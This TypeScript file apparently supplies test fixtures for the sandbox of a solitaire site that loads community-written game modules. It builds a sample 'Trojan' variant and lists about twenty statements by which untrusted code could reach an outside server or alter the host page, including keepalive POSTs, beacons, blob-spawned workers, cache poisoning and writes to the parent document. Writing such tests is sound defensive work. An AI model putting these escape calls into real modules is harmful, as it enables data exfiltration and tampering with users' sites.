/** Sources of modules that an attacker could offer as a patience. */

/** Returns the source of a table with two places. The parameters replace their rules for taking and accepting cards. */
export const tableOf = (left = `take: 'top', accept: { empty: 'any' }`, right = `accept: { empty: 'any' }`): string => `[
    { id: 'l', role: 'tableau', at: [0, 0], ${left} },
    { id: 'r', role: 'foundation', at: [1, 0], ${right} },
  ]`;

/** Returns the source of a sound patience with one change. */
export const sound = (change = '', top = ''): string => `${top}
const words = { name: 'Trojan', summary: 'One card, two places.', rules: 'The card goes to the right.' };
const variant = {
  api: 1, id: 'trojan', rules: 1, options: {},
  deck: () => ({ suits: ['S'], ranks: [1] }),
  table: () => ${tableOf()},
  deal: (table) => table.move('pack', 'l', { face: 'up' }),
  strings: { de: words, en: words },
  ${change}
};
export default variant;`;

/** Returns statements by which a module could send a request to a server, by name. */
export const waysTo = (to: string): Record<string, string> => ({
  fetch: `fetch('${to}/fetch')`,
  'fetch that outlives it': `fetch('${to}/keepalive', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' })`,
  XHR: `(() => { const x = new XMLHttpRequest(); x.open('GET', '${to}/xhr'); x.send(); })()`,
  WebSocket: `new WebSocket('${to.replace('http', 'ws')}/socket')`,
  EventSource: `new EventSource('${to}/events')`,
  import: `import('${to}/import.js')`,
  importScripts: `importScripts('${to}/scripts.js')`,
  beacon: `navigator.sendBeacon('${to}/beacon', 'x')`,
  image: `new Image().src = '${to}/image.png'`,
  font: `new FontFace('f', 'url(${to}/font.woff2)').load()`,
  worker: `new Worker('${to}/worker.js')`,
  'worker of its own that fetches': `new Worker(URL.createObjectURL(new Blob(["fetch('${to}/nested')"])))`,
  'module worker': `new Worker(URL.createObjectURL(new Blob(["import '${to}/nested.js'"])), { type: 'module' })`,
  WebTransport: `new WebTransport('${to.replace('http', 'https')}/transport')`,
  navigation: `(location.href = '${to}/navigation')`,
  cache: `caches.open('patience-site').then((c) => c.put('/en/', new Response('mine')))`,
  database: `indexedDB.open('patience')`,
  'service worker': `navigator.serviceWorker.controller.postMessage({ ask: 'fetch', address: '${to}/asked' })`,
  storage: `localStorage.setItem('mine', '1')`,
  'its parents': `(parent.document.title = 'mine')`,
  channel: `new BroadcastChannel('patience').postMessage({ changed: ['games'] })`,
});
